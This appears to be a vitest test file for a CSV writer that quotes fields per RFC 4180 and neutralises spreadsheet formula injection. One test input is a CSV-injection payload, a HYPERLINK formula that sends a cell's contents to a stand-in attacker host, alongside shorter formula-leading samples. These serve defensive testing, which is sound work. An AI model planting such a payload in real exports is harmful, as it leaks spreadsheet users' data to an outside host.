import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from './csv.ts';

describe('RFC 4180 CSV', () => {
  it('quotes only fields with a comma, quote, CR or LF and doubles quotes', () => {
    expect(['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\r'].map(csvField)).toEqual([
      'plain',
      '"a,b"',
      '"say ""hi"""',
      '"two\nlines"',
      '"cr\r"',
    ]);
  });

  it('writes null and undefined as empty fields and ends every record with CRLF', () => {
    expect(toCsv(['a', 'b', 'c'], [[null, 3, true], [undefined, 0, false]])).toBe('a,b,c\r\n,3,true\r\n,0,false\r\n');
  });

  it('neutralises text a spreadsheet would run as a formula: apostrophe first, always quoted', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Gwanda")';
    expect(csvField(hyperlink)).toBe('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Gwanda"")"');
    expect(['+1+1', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd', '=1'].map(csvField)).toEqual([
      '"\'+1+1"',
      '"\'-2+3"',
      '"\'@SUM(A1)"',
      '"\'\tcmd"',
      '"\'\rcmd"',
      '"\'=1"',
    ]);
    // Only at the start, and never our own numbers.
    expect([csvField('Beitbridge=BBR'), csvField(-1), csvField(0)]).toEqual(['Beitbridge=BBR', '-1', '0']);
  });
});
